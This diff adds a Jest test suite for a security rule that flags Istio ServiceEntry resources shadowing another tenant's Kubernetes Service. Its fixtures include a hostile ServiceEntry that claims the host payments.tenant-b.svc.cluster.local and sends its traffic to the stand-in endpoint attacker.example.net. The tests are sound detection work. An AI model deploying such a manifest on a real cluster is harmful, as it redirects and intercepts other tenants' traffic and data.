@@ -1,0 +1,83 @@
+import { expect } from '@jest/globals';
+import { serviceEntryShadowsServiceRule } from '../../../src/rules/exposure/serviceentry-shadows-service.js';
+import { runRuleTests } from '../../helpers/rule-tester.js';
+
+const ns = (...names: string[]) => names.map((name) => `---\napiVersion: v1\nkind: Namespace\nmetadata: {name: ${name}}\n`).join('');
+const payments = (annotation = '') => `
+---
+apiVersion: v1
+kind: Service
+metadata:
+  name: payments
+  namespace: tenant-b
+  creationTimestamp: "2024-01-01T00:00:00Z"
+${annotation ? `  annotations: {networking.istio.io/exportTo: "${annotation}"}\n` : ''}spec: {ports: [{port: 80, name: http}]}
+`;
+const shadow = (host: string, exportTo?: string) => `
+---
+apiVersion: networking.istio.io/v1
+kind: ServiceEntry
+metadata: {name: shadow, namespace: tenant-a, creationTimestamp: "2023-01-01T00:00:00Z"}
+spec:
+  hosts: ["${host}"]
+  ports: [{number: 80, name: http, protocol: HTTP}]
+  resolution: DNS
+  endpoints: [{address: attacker.example.net}]
+${exportTo ? `  exportTo: ${exportTo}\n` : ''}`;
+
+runRuleTests(serviceEntryShadowsServiceRule, {
+  valid: [
+    { name: 'ServiceEntry for an external host', manifests: ns('tenant-a', 'tenant-b') + payments() + shadow('api.example.com') },
+    { name: 'ServiceEntry for a Service of its own namespace', manifests: ns('tenant-a') + payments().replace('tenant-b', 'tenant-a') + shadow('payments.tenant-a.svc.cluster.local') },
+  ],
+  invalid: [
+    {
+      name: 'seed: shadowing a visible Service on 1.24+ redirects only the owner (high)',
+      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local'),
+      findings: [
+        {
+          severity: 'high',
+          namespace: 'tenant-a',
+          resourceName: 'shadow',
+          affectedNamespaces: ['tenant-a'],
+          subjectKey: 'payments.tenant-b.svc.cluster.local',
+          messageIncludes: ['Service tenant-b/payments', 'hijack if'],
+          check: (f) => expect(f.evidence).toMatchObject({ shadowedService: 'Service tenant-b/payments', namespacesWhereEntryWins: [], istioVersionAssumed: '1.30.3' }),
+        },
+      ],
+    },
+    {
+      name: 'the Service is hidden by its exportTo annotation: the ServiceEntry wins elsewhere (critical)',
+      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments('.') + shadow('payments.tenant-b.svc.cluster.local'),
+      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'], messageIncludes: ['replaces it'] }],
+    },
+    {
+      name: 'a restrictive defaultServiceExportTo hides the Service from other namespaces (critical)',
+      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local', '["*"]'),
+      meshConfig: { defaultServiceExportTo: ['.'] },
+      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'] }],
+    },
+    {
+      name: 'before 1.24 the older ServiceEntry beats the Service (critical)',
+      istioVersion: '1.23',
+      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('payments.tenant-b.svc.cluster.local'),
+      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'], check: (f) => expect(f.evidence.istioVersionAssumed).toBe('1.23') }],
+    },
+    {
+      name: "a consumer whose Sidecar imports the ServiceEntry's namespace but not the Service's (critical)",
+      manifests: `${ns('tenant-a', 'tenant-b', 'tenant-c')}${payments()}${shadow('payments.tenant-b.svc.cluster.local')}
+---
+apiVersion: networking.istio.io/v1
+kind: Sidecar
+metadata: {name: default, namespace: tenant-c}
+spec: {egress: [{hosts: ["./*", "tenant-a/*"]}]}
+`,
+      findings: [{ severity: 'critical', affectedNamespaces: ['tenant-c'] }],
+    },
+    {
+      name: 'a wildcard covering the Service host',
+      manifests: ns('tenant-a', 'tenant-b', 'tenant-c') + payments() + shadow('*.tenant-b.svc.cluster.local'),
+      findings: [{ severity: 'high', messageIncludes: ['covers payments.tenant-b.svc.cluster.local'] }],
+    },
+  ],
+});
